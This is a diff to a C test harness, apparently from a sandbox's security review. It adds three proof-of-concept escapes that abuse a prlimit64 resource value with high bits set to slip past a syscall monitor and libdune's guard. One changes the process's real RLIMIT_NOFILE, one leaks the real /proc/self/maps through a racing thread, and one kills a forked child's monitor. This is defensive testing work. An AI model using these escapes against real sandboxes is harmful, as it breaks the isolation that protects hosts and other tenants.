@@ -353,6 +353,19 @@
  *                                    control buffer, so the monitor never takes its
  *                                    RECEIVED lock or a private duplicate: every child
  *                                    must end; shows the lock is the cause)
+ *
+ * Round 11 (a twelfth white-box pass, after the round-10 fixes):
+ *   nofile-high-bits                 prlimit64/setrlimit with resource 0x100000007: the
+ *                                    monitor forwards it (not a limit it keeps), the
+ *                                    runtime's guard compares 64 bits (not
+ *                                    RLIMIT_NOFILE), Linux reads an unsigned int: the
+ *                                    process's real RLIMIT_NOFILE changes
+ *   maps-nofile-high-bits            the real hard limit lowered that way: the runtime
+ *                                    cannot duplicate its maps descriptor for the
+ *                                    monitor, which then reads a fresh one opened at the
+ *                                    program's lowest free number: a sibling reads it
+ *   fork-nofile-high-bits            the same lowered limit, then fork: the child's
+ *                                    runtime cannot move its new VM's descriptors up
  */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
@@ -4657,6 +4670,146 @@ static void received_fd_race_mmsg(void) {
 	contained();
 }
 
+/* ---- round 11 ------------------------------------------------------------------------ */
+
+/* RLIMIT_NOFILE with the upper 32 bits of the resource set. Linux reads `resource` as
+ * an unsigned int (7); the monitor forwards every resource it does not keep itself
+ * to prlimit64 unchanged, and libdune's guard recognises RLIMIT_NOFILE (to keep the
+ * program's own view, capped below the runtime's numbers) by comparing all 64 bits.
+ * So the call reaches Linux and changes the process's real limit. */
+#define NOFILE_HI ((1ull << 32) | RLIMIT_NOFILE)
+
+static long real_nofile(struct rlimit *newl, struct rlimit *old) {
+	return syscall(SYS_prlimit64, 0, NOFILE_HI, newl, old);
+}
+
+static void nofile_high_bits(void) {
+	struct rlimit view, real0, real1, set;
+	getrlimit(RLIMIT_NOFILE, &view);
+	long r = real_nofile(NULL, &real0);
+	printf("program's view %lu/%lu; prlimit64(0x%llx) read: %ld %lu/%lu\n", (unsigned long)view.rlim_cur, (unsigned long)view.rlim_max, NOFILE_HI, r,
+	       (unsigned long)real0.rlim_cur, (unsigned long)real0.rlim_max);
+	if (r == 0 && (real0.rlim_cur != view.rlim_cur || real0.rlim_max != view.rlim_max))
+		printf("the real limit shows through: %lu/%lu\n", (unsigned long)real0.rlim_cur, (unsigned long)real0.rlim_max);
+	/* Raise the real soft limit to the real hard one (above the monitor's numbers). */
+	set.rlim_cur = set.rlim_max = r == 0 ? real0.rlim_max : view.rlim_max;
+	long w = real_nofile(&set, NULL);
+	printf("prlimit64(0x%llx, %lu/%lu): %ld (%s)\n", NOFILE_HI, (unsigned long)set.rlim_cur, (unsigned long)set.rlim_max, w, w ? strerror(errno) : "ok");
+	memset(&real1, 0, sizeof real1);
+	long r1 = real_nofile(NULL, &real1);
+	struct rlimit view1;
+	getrlimit(RLIMIT_NOFILE, &view1);
+	printf("after: view %lu/%lu, real %ld %lu/%lu\n", (unsigned long)view1.rlim_cur, (unsigned long)view1.rlim_max, r1, (unsigned long)real1.rlim_cur, (unsigned long)real1.rlim_max);
+	if (w == 0 && r1 == 0 && real1.rlim_cur > view.rlim_max)
+		escaped("the process's real RLIMIT_NOFILE soft limit is now %lu, above the program's hard limit %lu where the runtime's and the monitor's descriptors start (the kernel no longer refuses their numbers)",
+			(unsigned long)real1.rlim_cur, (unsigned long)view.rlim_max);
+	contained();
+}
+
+/* The consequence: with the real hard limit lowered below the reserved numbers, the
+ * runtime cannot duplicate its /proc/self/maps descriptor for the monitor
+ * (SERVICE_DUP_MAPS fails), and runtime::own_maps falls back to reading a fresh
+ * descriptor of the real map opened at the program's lowest free number (round 7's
+ * finding): a sibling reads it while the monitor serves the program's cut copy. */
+static void *maps_low_reader(void *x) {
+	(void)x;
+	static char b[1 << 16];
+	while (!maps_stop) {
+		ssize_t n = pread(maps_low, b, sizeof b - 1, 0);
+		if (n <= 0)
+			continue;
+		b[n] = 0;
+		if (strstr(b, "kvm") || strstr(b, "/dune\n") || strstr(b, "[heap]")) {
+			memcpy(maps_got, b, n + 1);
+			maps_got_len = n;
+			maps_stop = 1;
+		}
+	}
+	return NULL;
+}
+
+static void maps_nofile_high_bits(void) {
+	static char served[1 << 16];
+	int f = open("/proc/self/maps", O_RDONLY);
+	if (f < 0) {
+		printf("open /proc/self/maps: %s\n", strerror(errno));
+		contained();
+	}
+	ssize_t n = read(f, served, sizeof served - 1);
+	served[n > 0 ? n : 0] = 0;
+	close(f);
+	printf("served maps: %d lines%s\n", count_lines(served), strstr(served, "kvm") ? " (with kvm!)" : "");
+	/* The sibling first: a new thread needs a vCPU descriptor at the runtime's numbers. */
+	maps_low = dup(0);
+	close(maps_low);
+	pthread_t t;
+	pthread_create(&t, NULL, maps_low_reader, NULL);
+	struct rlimit small = { 64, 64 };
+	long w = real_nofile(&small, NULL);
+	struct rlimit real;
+	long r = real_nofile(NULL, &real);
+	printf("prlimit64(0x%llx, 64/64): %ld (%s); real now %ld %lu/%lu; descriptor will be born at %d\n", NOFILE_HI, w, w ? strerror(errno) : "ok", r,
+	       (unsigned long)real.rlim_cur, (unsigned long)real.rlim_max, maps_low);
+	double t0 = now();
+	long tries = 0, opened = 0;
+	while (!maps_stop && now() - t0 < 10) {
+		int g = open("/proc/self/maps", O_RDONLY);
+		if (g >= 0) {
+			opened++;
+			close(g);
+		}
+		tries++;
+	}
+	maps_stop = 1;
+	pthread_join(t, NULL);
+	printf("%ld opens (%ld served)\n", tries, opened);
+	if (maps_got_len > 0) {
+		char *l = strstr(maps_got, "kvm");
+		if (!l)
+			l = strstr(maps_got, "/dune\n");
+		if (!l)
+			l = strstr(maps_got, "[heap]");
+		char *start = l, *end = strchr(l, '\n');
+		while (start > maps_got && start[-1] != '\n')
+			start--;
+		if (end)
+			*end = 0;
+		escaped("read the real /proc/self/maps at descriptor %d (%d lines, the program's own %d): %s", maps_low, count_lines(maps_got), count_lines(served), start);
+	}
+	contained();
+}
+
+/* The same lowered limit, then fork: the child's runtime cannot move its new VM's
+ * descriptors to its numbers, and the forked child's monitor dies before the
+ * program's code runs on. */
+static void fork_nofile_high_bits(void) {
+	struct rlimit small = { 64, 64 };
+	long w = real_nofile(&small, NULL);
+	printf("prlimit64(0x%llx, 64/64): %ld (%s)\n", NOFILE_HI, w, w ? strerror(errno) : "ok");
+	int p[2];
+	if (pipe(p)) {
+		printf("pipe: %s\n", strerror(errno));
+		exit(2);
+	}
+	pid_t c = fork();
+	if (c == 0) {
+		close(p[0]);
+		if (write(p[1], "alive", 5) != 5)
+			_exit(3);
+		_exit(42);
+	}
+	close(p[1]);
+	char b[8] = { 0 };
+	ssize_t n = c > 0 ? read(p[0], b, 5) : -1;
+	int st = 0;
+	pid_t wr = c > 0 ? waitpid(c, &st, 0) : -1;
+	printf("fork: %d; child said %zd \"%s\"; waitpid %d status %#x (%s %d)\n", c, n, b, wr, st, WIFEXITED(st) ? "exit" : "signal",
+	       WIFEXITED(st) ? WEXITSTATUS(st) : WTERMSIG(st));
+	if (w == 0 && c > 0 && (n != 5 || !WIFEXITED(st) || WEXITSTATUS(st) != 42))
+		escaped("the forked child's monitor died (status %#x) after the program lowered the real RLIMIT_NOFILE through resource 0x%llx", st, NOFILE_HI);
+	contained();
+}
+
 int main(int argc, char **argv) {
 	setvbuf(stdout, NULL, _IOLBF, 0);
 	if (argc < 2) {
@@ -4890,6 +5043,13 @@ int main(int argc, char **argv) {
 		fork_while_room();
 	else if (!strcmp(name, "received-fd-race-mmsg"))
 		received_fd_race_mmsg();
+	/* round 11 */
+	else if (!strcmp(name, "nofile-high-bits"))
+		nofile_high_bits();
+	else if (!strcmp(name, "maps-nofile-high-bits"))
+		maps_nofile_high_bits();
+	else if (!strcmp(name, "fork-nofile-high-bits"))
+		fork_nofile_high_bits();
 	fprintf(stderr, "unknown attack %s\n", name);
 	return 2;
 }
